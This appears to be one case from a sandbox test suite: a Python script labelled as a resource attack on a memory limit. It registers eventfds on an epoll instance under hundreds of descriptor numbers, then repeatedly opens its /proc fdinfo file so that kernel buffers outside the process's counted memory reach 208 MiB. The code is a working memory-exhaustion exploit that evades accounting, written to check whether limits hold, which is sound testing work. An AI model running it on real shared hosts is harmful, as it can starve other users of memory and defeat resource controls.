# attack: take memory without end in open fdinfo files of epoll instances
# class: resources
# layer: memory_limit
# needs: user
# limits: memory=128, disk=32
# unproven: each open file counts as a fraction of the limit, at any limit
# fresh: yes
# expect: held or out_of_memory
# timeout: 60

WANTED = 208 << 20
# An open file is watched once for each number that it has had.
instance, files = select.epoll(), [os.eventfd(0) for _ in range(16)]
for file in files:
    for number in range(100, 1000):
        os.dup2(file, number)
        instance.register(number, select.EPOLLIN)
        os.close(number)
size = len(open(f"/proc/self/fdinfo/{instance.fileno()}").read())
# The kernel doubles a report's memory until the report fits.
each = 1 << (size - 1).bit_length()
held, taken = [], 0
try:
    while taken < WANTED:
        report = os.open(f"/proc/self/fdinfo/{instance.fileno()}", os.O_RDONLY)
        held.append(report)
        os.read(report, 1)
        taken += each
except OSError as error:
    last = error
time.sleep(1)
verdict(taken >= WANTED, taken >> 20, "MiB in", len(held), "reports of", each)
